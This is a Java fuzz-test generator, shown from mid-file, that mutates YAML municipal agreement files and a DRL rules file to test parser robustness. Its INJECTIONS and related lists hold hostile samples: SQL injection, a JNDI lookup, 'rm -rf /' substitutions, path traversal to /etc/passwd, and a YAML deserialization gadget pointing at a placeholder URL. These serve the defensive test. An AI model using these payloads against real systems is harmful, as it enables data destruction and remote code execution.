                Tuple.of(3, dropLine()), Tuple.of(2, duplicateLine()), Tuple.of(2, swapLines()), Tuple.of(1, repeatLine()),
                Tuple.of(2, duplicateEntry()), Tuple.of(4, renameKey()), Tuple.of(4, retypeValue()), Tuple.of(2, breakDate()),
                Tuple.of(3, replaceMatch("id", ids, BAD_IDS)), Tuple.of(2, addField(PACK_FIELDS)), Tuple.of(2, insertLine()),
                Tuple.of(2, appendToLine()), Tuple.of(2, garbage()), Tuple.of(2, charEdit()), Tuple.of(2, indent()),
                Tuple.of(1, truncate()), Tuple.of(1, nestDeep()), Tuple.of(1, replaceAll()),
                Tuple.of(4, replaceMatch("placeholder", placeable, PLACEHOLDERS)), Tuple.of(4, inject(placeable)),
                Tuple.of(2, replaceMatch("due", Pattern.compile("(?<=due: )\"[^\"\\n]*\""), DUES))));
    }

    static Arbitrary<Mutant> drlMutantArbitrary() {
        Arbitrary<Op> op = Arbitraries.frequencyOf(
                Tuple.of(4, charEdit()), Tuple.of(2, dropLine()), Tuple.of(1, duplicateLine()), Tuple.of(1, swapLines()),
                Tuple.of(1, Combinators.combine(position(), position()).as((i, j) -> new Op("swap chars " + i + " and " + j, s -> {
                    if (s.isEmpty()) {
                        return s;
                    }
                    char[] c = s.toCharArray();
                    int a = at(i, c.length);
                    int b = at(j, c.length);
                    char t = c[a];
                    c[a] = c[b];
                    c[b] = t;
                    return new String(c);
                }))));
        return op.list().ofMinSize(1).ofMaxSize(2).map(ops -> {
            String text = DRL;
            for (Op o : ops) {
                text = o.edit().apply(text);
            }
            return new Mutant(ops.stream().map(Op::name).toList(), text.getBytes(StandardCharsets.UTF_8));
        });
    }

    private static Arbitrary<Mutant> mutants(String valid, Arbitrary<Op> op) {
        Arbitrary<Optional<ByteOp>> bytes = Arbitraries.frequencyOf(
                Tuple.of(12, Arbitraries.just(Optional.<ByteOp>empty())), Tuple.of(1, invalidUtf8().map(Optional::of)));
        return Combinators.combine(op.list().ofMinSize(1).ofMaxSize(3), bytes).as((ops, byteOp) -> {
            String text = valid;
            List<String> names = new ArrayList<>();
            for (Op o : ops) {
                text = o.edit().apply(text);
                names.add(o.name());
            }
            byte[] out = text.getBytes(StandardCharsets.UTF_8);
            if (byteOp.isPresent()) {
                out = byteOp.get().edit().apply(out);
                names.add(byteOp.get().name());
            }
            return new Mutant(List.copyOf(names), out);
        });
    }

    // the edits

    private static Arbitrary<Integer> index() {
        return Arbitraries.integers().between(0, 999);
    }

    private static Arbitrary<Integer> position() {
        return Arbitraries.integers().between(0, 99_999);
    }

    static int at(int i, int size) {
        return size <= 0 ? 0 : Math.floorMod(i, size);
    }

    private static String editLines(String s, UnaryOperator<List<String>> edit) {
        return String.join("\n", edit.apply(new ArrayList<>(Arrays.asList(s.split("\n", -1)))));
    }

    /** Replaces the {@code k}-th match of {@code p} (counting round) by what {@code with} makes of it. */
    static String replaceMatch(String s, Pattern p, int k, Function<MatchResult, String> with) {
        List<MatchResult> found = p.matcher(s).results().toList();
        if (found.isEmpty()) {
            return s;
        }
        MatchResult m = found.get(at(k, found.size()));
        return s.substring(0, m.start()) + with.apply(m) + s.substring(m.end());
    }

    static Arbitrary<Op> dropLine() {
        return index().map(i -> new Op("drop line " + i, s -> editLines(s, l -> {
            l.remove(at(i, l.size()));
            return l;
        })));
    }

    static Arbitrary<Op> duplicateLine() {
        return index().map(i -> new Op("duplicate line " + i, s -> editLines(s, l -> {
            int a = at(i, l.size());
            l.add(a, l.get(a));
            return l;
        })));
    }

    static Arbitrary<Op> swapLines() {
        return Combinators.combine(index(), index()).as((i, j) -> new Op("swap lines " + i + " and " + j, s -> editLines(s, l -> {
            java.util.Collections.swap(l, at(i, l.size()), at(j, l.size()));
            return l;
        })));
    }

    static Arbitrary<Op> repeatLine() {
        return Combinators.combine(index(), Arbitraries.integers().between(2, 2000)).as((i, n) -> new Op("repeat line " + i + " " + n + " times",
                s -> editLines(s, l -> {
                    int a = at(i, l.size());
                    l.addAll(a, java.util.Collections.nCopies(n - 1, l.get(a)));
                    return l;
                })));
    }

    /** Duplicates a list entry: its {@code - } line and the lines indented under it. */
    static Arbitrary<Op> duplicateEntry() {
        return index().map(i -> new Op("duplicate entry " + i, s -> editLines(s, l -> {
            List<Integer> items = new ArrayList<>();
            for (int k = 0; k < l.size(); k++) {
                if (l.get(k).stripLeading().startsWith("- ")) {
                    items.add(k);
                }
            }
            if (items.isEmpty()) {
                return l;
            }
            int start = items.get(at(i, items.size()));
            int indent = l.get(start).length() - l.get(start).stripLeading().length();
            int end = start + 1;
            while (end < l.size() && !l.get(end).isBlank() && l.get(end).length() - l.get(end).stripLeading().length() > indent) {
                end++;
            }
            l.addAll(end, new ArrayList<>(l.subList(start, end)));
            return l;
        })));
    }

    private static final Pattern KEY = Pattern.compile("(?m)(?<=^|[{,\\s-])[A-Za-z][A-Za-z0-9_]*(?=:(?:[ \\t]|$))");
    static final List<String> KEYS = List.of("name", "period", "partners", "focusAreas", "chair", "secretariat", "viceChairs", "from", "to",
            "id", "home", "municipality", "host", "joined", "left", "source", "duties", "clause", "quote", "for", "actor", "action",
            "matter", "scope", "modality", "jointlyWith", "frequency", "condition", "due", "per", "min", "max", "alsoAsNeeded");

    static Arbitrary<Op> renameKey() {
        return Combinators.combine(index(), Arbitraries.integers().between(0, 10), Arbitraries.of(KEYS)).as((i, how, other) ->
                new Op("rename key " + i + " (" + how + (how == 6 ? " to " + other : "") + ")", s -> replaceMatch(s, KEY, i, m -> typo(m.group(), how, other))));
    }

    static String typo(String key, int how, String other) {
        int mid = key.length() / 2;
        return switch (how) {
            case 0 -> key.substring(0, mid) + key.substring(Math.min(key.length(), mid + 1));
            case 1 -> key.length() < 2 ? key + key : key.substring(0, mid - 1) + key.charAt(mid) + key.charAt(mid - 1) + key.substring(mid + 1);
            case 2 -> key.toUpperCase(java.util.Locale.ROOT);
            case 3 -> Character.toUpperCase(key.charAt(0)) + key.substring(1);
            case 4 -> key + "s";
            case 5 -> key.substring(0, mid) + key.charAt(mid) + key.substring(mid);
            case 6 -> other;
            case 7 -> key.substring(0, mid) + " " + key.substring(mid);
            case 8 -> key.replaceFirst("[ae]", key.contains("a") ? "\u0430" : "\u0435");
            case 9 -> key.replaceAll("([A-Z])", "_$1").toLowerCase(java.util.Locale.ROOT);
            default -> "\"" + key + "\"";
        };
    }

    private static final Pattern VALUE = Pattern.compile(
            "(?m)(?<=:[ ])(\\[[^\\n\\]]*]|\\{[^\\n}]*}|\"[^\"\\n]*\"|'[^'\\n]*'|[^\\n,{}\\[\\]#\"' ][^\\n,{}\\[\\]#]*?)(?=[ \\t]*(?:$|,|}|#))");
    static final List<String> SHAPES = List.of("[a, b]", "[]", "{a: b}", "{}", "x", "''", "~", "null", "42", "-7", "0x1F", "1e400",
            "3.14", "true", "no", "2021-01-01", "[2021-01-01]", "{from: 2021-01-01}", "- a", "|", ">", "&anchor x", "*alias", "*", "&",
            "!!str x", "!!int x", "!!binary AAAA", "!!java.lang.Runtime {}", "!<tag:yaml.org,2002:map> {}", "!local x", "? x",
            "\"\\u0000\"", "\"\\uD800\"", "\"\\x\"", "\"unterminated", "'unterminated", "[[[[[[[[[[]]]]]]]]]]", "{a: {b: {c: {}}}}",
            "[a, [b, [c]]]", "99999999999999999999999", "-.inf", ".nan", "\"\"", "' '", "\"\\t\"", "@x", "`x`", "%x", "[a, b",
            "{a: b", "a: b", "a: b: c", "- - -", "[a, {b: c}]", "{[a]: b}", "{? a : b}", "{a: b, a: c}", "<<: {x: 1}");

    static Arbitrary<Op> retypeValue() {
        return Combinators.combine(index(), Arbitraries.of(SHAPES)).as((i, shape) ->
                new Op("retype value " + i + " to " + shape, s -> replaceMatch(s, VALUE, i, m -> shape)));
    }

    private static final Pattern DATE = Pattern.compile("\\d{4}-\\d{2}-\\d{2}");
    static final List<String> DATES = List.of("2024-13-40", "2024-02-30", "2023-02-29", "2021-00-01", "2021-01-00", "0000-01-01",
            "9999-12-31", "-0001-01-01", "+10000-01-01", "2021-1-1", "21-01-01", "2021/01/01", "01-01-2021", "2021-01-01T00:00",
            "2021-01-01T00:00:00Z", "2021-01-01 00:00:00", "'2021-01-01'", "\"2021-01-01\"", "20210101", "1609459200", "2021-W01-1",
            "2021-001", "today", "''", "~", "[2021-01-01]", "{y: 2021}", "1900-01-01", "2099-12-31", "2022-06-15", "2021-12-31",
            "2024-01-01", "2020-12-31", "2025-01-01", "2024-12-31", "2021-01-01");

    static Arbitrary<Op> breakDate() {
        return Combinators.combine(index(), Arbitraries.of(DATES)).as((i, date) ->
                new Op("date " + i + " to " + date, s -> replaceMatch(s, DATE, i, m -> date)));
    }

    static Arbitrary<Op> swapDates() {
        return Combinators.combine(index(), index()).as((i, j) -> new Op("swap dates " + i + " and " + j, s -> {
            List<MatchResult> found = DATE.matcher(s).results().toList();
            if (found.size() < 2) {
                return s;
            }
            MatchResult a = found.get(at(i, found.size()));
            MatchResult b = found.get(at(j, found.size()));
            if (a.start() == b.start()) {
                return s;
            }
            MatchResult first = a.start() < b.start() ? a : b;
            MatchResult second = first == a ? b : a;
            return s.substring(0, first.start()) + second.group() + s.substring(first.end(), second.start()) + first.group()
                    + s.substring(second.end());
        }));
    }

    static final List<String> BAD_IDS = List.of("Køge", "KOEGE", "Koege", "koege ", "'koege '", "ko ege", "\"ko\\u0308ege\"", "-koege",
            "koege-", "ko--ege", "''", "\"\"", "\uD83D\uDE00", "../etc/passwd", "kmk", "music", "roskilde", "ishoej", "gladsaxe", "x:y",
            "null", "~", "1", "\"\\u202Ekoege\"", "koege\u00a0", "a".repeat(300), "k_oege", "koege.", "ko\u0131ege", "\uFF2B\uFF2F\uFF25",
            "[koege]", "{id: koege}", "\"ko\\nege\"", "\"ko\\rege\"", "each-partner", "the-agreement", "must", "test.programme", "kmk.tasks-5", "a.b.c", ".", "..",
            "\"${partner}\"", "partner-municipality:koege", "\"partner-municipality:\"", "year", "week");

    static Arbitrary<Op> replaceMatch(String what, Pattern p, List<String> values) {
        return Combinators.combine(index(), Arbitraries.of(values)).as((i, v) ->
                new Op(what + " " + i + " to " + escape(v.length() > 40 ? v.substring(0, 40) + "..." : v), s -> replaceMatch(s, p, i, m -> v)));
    }

    static final List<String> VICE_CHAIRS = List.of("[koege]", "[koege, herlev]", "[koege, herlev, roedovre]", "[ishoej]",
            "[koege, koege]", "[gladsaxe]", "[music]", "[Koege]", "[~]", "[[koege]]", "koege", "{koege: x}", "[\"\"]");

    static final List<String> AGREEMENT_FIELDS = List.of("joined: 2022-01-01", "left: 2022-12-31", "joined: 2019-01-01",
            "left: 2030-01-01", "joined: 2024-12-31", "left: 2021-01-01", "joined: 2023-01-01, left: 2022-01-01", "id: koege",
            "name: Other", "home: koege", "from: 2021-01-01", "extra: x", "Id: x", "joined: ~", "left: [2022-01-01]", "joined: 2022-02-30");
    static final List<String> PACK_FIELDS = List.of("modality: should", "modality: shall", "condition: at-any-time", "condition: sometimes",
            "jointlyWith: [kmk]", "jointlyWith: [\"home-municipality:${area}\"]", "to: [kmk, kmk]", "frequency: { per: quarter }",
            "frequency: { per: as-needed, min: 1 }", "frequency: { per: year, min: 3, max: 1 }", "frequency: { per: year, alsoAsNeeded: true }",
            "frequency: { per: year, min: -1 }", "frequency: { per: week }", "frequency: year", "due: \"--02-30\"", "due: \"2024-02-30\"",
            "due: \"--13-01\"", "due: 2024-06-30", "due: \"2030-01-01\"", "source: Other", "source: ~", "scope: music",
            "scope: \"${home}\"", "quote: \" \"", "extra: x", "clause: other.clause", "for: each-partner");

    /** Adds {@code key: value} to a flow map (before a closing brace) or as a line under a list entry. */
    static Arbitrary<Op> addField(List<String> fields) {
        return Combinators.combine(index(), Arbitraries.of(fields)).as((i, field) -> new Op("add " + field + " at " + i, s -> {
            List<MatchResult> braces = Pattern.compile(" }").matcher(s).results().toList();
            List<MatchResult> items = Pattern.compile("(?m)^(\\s*)- (?![{])").matcher(s).results().toList();
            int pick = at(i, braces.size() + items.size());
            if (braces.size() + items.size() == 0) {
                return s;
            }
            if (pick < braces.size()) {
                MatchResult b = braces.get(pick);
                return s.substring(0, b.start()) + ", " + field + s.substring(b.start());
            }
            MatchResult item = items.get(pick - braces.size());
            int eol = s.indexOf('\n', item.end());
            int end = eol < 0 ? s.length() : eol;
            return s.substring(0, end) + "\n" + item.group(1) + "  " + field + s.substring(end);
        }));
    }

    static final List<String> JUNK = List.of("\tname: x", "name: Duplicate", "partners: []", "duties: []", "- stray", "---", "...",
            "%YAML 1.1", "%YAML 2.0", "%TAG ! tag:x,2000:", "? [a]", ": b", "<<: {x: 1}", "x: &a [1]", "y: *a", "z: *undefined", "!!map",
            "{", "]", "'", "\"", "#", ":", "@", "`", "|", "key: |", "  block text", " ", "\u00a0", "\uFEFF", "\u2028", "\u0085", "\r",
            "viceChairs: [koege, koege]", "viceChairs: [ishoej]", "source: again", "\t", "  \t  - x", "a:\n\tb: c", "\u0000", "\u0007",
            "- { id: koege, name: Køge Kommune }", "  - { id: gladsaxe, name: Gladsaxe Kommune, joined: 2023-01-01 }",
            "  - { id: film, name: Film, home: koege }", "name: !!binary AAAA", "? complex key", "&anchor", "*alias", "!tag",
            "  - clause: test.extra", "    quote: Extra.", "  -", "  - ~", "  - []", "  - {}", "  - \"\"");

    static Arbitrary<Op> insertLine() {
        return Combinators.combine(index(), Arbitraries.of(JUNK)).as((i, junk) -> new Op("insert at line " + i + " " + escape(junk),
                s -> editLines(s, l -> {
                    l.add(at(i, l.size() + 1), junk);
                    return l;
                })));
    }

    static final List<String> TAILS = List.of(" x", " [a]", " {a: b}", ": c", " # comment", "#no-space", "\t", " \t", ",", " ]", " }",
            " &a", " *a", " !!str", " - x", "'", "\"", " ...", " ---", "\u00a0", " \uD83D\uDE00", "\u0000", " : ");

    static Arbitrary<Op> appendToLine() {
        return Combinators.combine(index(), Arbitraries.of(TAILS)).as((i, tail) -> new Op("append to line " + i + " " + escape(tail),
                s -> editLines(s, l -> {
                    int a = at(i, l.size());
                    l.set(a, l.get(a) + tail);
                    return l;
                })));
    }

    static Arbitrary<Op> garbage() {
        Arbitrary<String> chars = Arbitraries.oneOf(Arbitraries.strings().all().ofMaxLength(20),
                Arbitraries.strings().withCharRange('\u0000', '\u00ff').ofMaxLength(20));
        return Combinators.combine(position(), Arbitraries.integers().between(0, 20), chars).as((p, n, junk) ->
                new Op("replace " + n + " chars at " + p + " by " + escape(junk), s -> {
                    int a = at(p, s.length() + 1);
                    return s.substring(0, a) + junk + s.substring(Math.min(s.length(), a + n));
                }));
    }

    /** Deletes, duplicates or swaps one character, or turns it upper case. */
    static Arbitrary<Op> charEdit() {
        return Combinators.combine(position(), Arbitraries.integers().between(0, 3)).as((p, how) ->
                new Op(List.of("delete", "duplicate", "swap with next", "upper-case").get(how) + " char " + p, s -> {
                    if (s.isEmpty()) {
                        return s;
                    }
                    int a = at(p, s.length());
                    return switch (how) {
                        case 0 -> s.substring(0, a) + s.substring(a + 1);
                        case 1 -> s.substring(0, a + 1) + s.substring(a);
                        case 2 -> a + 1 >= s.length() ? s : s.substring(0, a) + s.charAt(a + 1) + s.charAt(a) + s.substring(a + 2);
                        default -> s.substring(0, a) + Character.toUpperCase(s.charAt(a)) + s.substring(a + 1);
                    };
                }));
    }

    static Arbitrary<Op> indent() {
        return Combinators.combine(index(), Arbitraries.integers().between(0, 4)).as((i, how) ->
                new Op(List.of("indent by 1", "indent by 2", "outdent", "tab-indent", "tab after indent").get(how) + " line " + i,
                        s -> editLines(s, l -> {
                            int a = at(i, l.size());
                            String line = l.get(a);
                            String stripped = line.stripLeading();
                            String lead = line.substring(0, line.length() - stripped.length());
                            l.set(a, switch (how) {
                                case 0 -> " " + line;
                                case 1 -> "  " + line;
                                case 2 -> lead.length() >= 2 ? line.substring(2) : stripped;
                                case 3 -> "\t".repeat(Math.max(1, lead.length() / 2)) + stripped;
                                default -> lead + "\t" + stripped;
                            });
                            return l;
                        })));
    }

    static Arbitrary<Op> truncate() {
        return position().map(p -> new Op("truncate at " + p, s -> s.substring(0, at(p, s.length() + 1))));
    }

    /** A value nested 1 to 5,000 levels deep, in flow or block style. */
    static Arbitrary<Op> nestDeep() {
        return Combinators.combine(index(), Arbitraries.integers().between(1, 5000), Arbitraries.integers().between(0, 5)).as((i, depth, style) -> {
            String nested = switch (style) {
                case 0 -> "[".repeat(depth);
                case 1 -> "[".repeat(depth) + "x" + "]".repeat(depth);
                case 2 -> "{a: ".repeat(depth) + "b" + "}".repeat(depth);
                case 3 -> "{".repeat(depth);
                case 4 -> "- ".repeat(depth) + "x";
                default -> "&a [" + "[*a, ".repeat(depth) + "x" + "]".repeat(depth) + "]";
            };
            return new Op("nest value " + i + " " + depth + " deep (style " + style + ")", s -> replaceMatch(s, VALUE, i, m -> nested));
        });
    }

    static final List<String> WHOLE = List.of("", "\n", "   \n\t\n", "# only\n# comments\n", "#", "\t", "\t\tname: x\n", "---\n", "...\n",
            "--- \n...\n---\n", "~", "null", "[]", "{}", "[", "{", "\"", "'", "\uFEFF", "\uFEFF# bom\n", "%YAML 1.1\n---\n", "%YAML 2.0\n---\n",
            "%TAG ! tag:x,2000:\n---\n!a {}\n", "!!binary AAAA", "&a *a", "*a", "? ? ? x", "- - - -", ":", "a: b: c", "\u0000", "\u0085",
            "\u2028", "\uFFFF", "duties:", "duties: ~", "source: x\n", "name: x\n", "0", "-", "|\n  text\n", "a: [\n");

    static Arbitrary<Op> replaceAll() {
        return Arbitraries.oneOf(Arbitraries.of(WHOLE), Arbitraries.strings().all().ofMaxLength(60))
                .map(text -> new Op("replace all by " + escape(text), s -> text));
    }

    static final List<String> PLACEHOLDERS = List.of("\"${partner}\"", "\"${area}\"", "\"${home}\"", "\"${}\"", "\"${partner\"",
            "\"$partner\"", "\"${PARTNER}\"", "\"${partner}${partner}\"", "\"${${partner}}\"", "\"x:${area}\"", "\"${partner}:${partner}\"",
            "\"${partner}:kmk\"", "\"partner-municipality:${home}\"", "\"#{partner}\"", "\"%{partner}\"", "\"${partner}:${partner}:x\"",
            "\"${ partner }\"", "\"${partner}-${area}\"", "\"${env:HOME}\"", "\"${sys:user.home}\"", "\"${partner}.${area}\"",
            "[\"${partner}\"]", "[\"${home}\", \"${area}\"]", "\"${partner}}\"", "\"$${partner}\"", "\"\\${partner}\"");

    static final List<String> INJECTIONS = List.of("x\"); System.exit(1); (\"", "'; DROP TABLE duties; --", "<script>alert(1)</script>",
            "${jndi:ldap://example.invalid/a}", "{{7*7}}", "#{7*7}", "`rm -rf /`", "$(rm -rf /)", "%s%s%n%n", "\\u0000", "\\",
            "../../../../etc/passwd", "kmk\nrule \"x\" when then end", "end\nrule x", "\"; insert(null); \"", "kmk\" || true || \"",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]",
            "*/ System.exit(1); /*", "\u202Ekmk", "kmk\u0000", "a".repeat(5000), "\r\nrule", "line one\nline two");

    /** An injection-looking string as a value: plain, single-quoted or double-quoted. */
    static Arbitrary<Op> inject(Pattern values) {
        return Combinators.combine(index(), Arbitraries.of(INJECTIONS), Arbitraries.integers().between(0, 2)).as((i, text, quoting) -> {
            String value = switch (quoting) {
                case 0 -> text;
                case 1 -> "'" + text.replace("'", "''") + "'";
                default -> "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n").replace("\r", "\\r")
                        .replace("\u0000", "\\0") + "\"";
            };
            return new Op("inject at value " + i + " " + escape(value.length() > 60 ? value.substring(0, 60) + "..." : value),
                    s -> replaceMatch(s, values, i, m -> value));
        });
    }

    static final List<String> DUES = List.of("\"--02-30\"", "\"--13-01\"", "\"--00-00\"", "\"--2-1\"", "\"02-01\"", "\"2024-02-30\"",
            "\"2024-13-40\"", "\"1 February\"", "\"\"", "\"--02-29\"", "\"2030-01-01\"", "\"1999-01-01\"", "--02-01", "\"+99999-01-01\"",
            "\"2024-06-30T00:00\"", "[\"--02-01\"]");

    /** Invalid UTF-8 at a position. */
    static Arbitrary<ByteOp> invalidUtf8() {
        List<byte[]> sequences = List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC3}, new byte[] {(byte) 0xC3, 0x28},
                new byte[] {(byte) 0xE2, (byte) 0x82}, new byte[] {(byte) 0xF0, (byte) 0x9F, (byte) 0x98},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xFE, (byte) 0xFF},
                new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0});
        return Combinators.combine(position(), Arbitraries.of(sequences)).as((p, seq) -> new ByteOp("bytes " + Arrays.toString(seq) + " at " + p,
                b -> {
                    int a = at(p, b.length + 1);
                    byte[] out = new byte[b.length + seq.length];
                    System.arraycopy(b, 0, out, 0, a);
                    System.arraycopy(seq, 0, out, a, seq.length);
                    System.arraycopy(b, a, out, a + seq.length, b.length - a);
                    return out;
                }));
    }
}
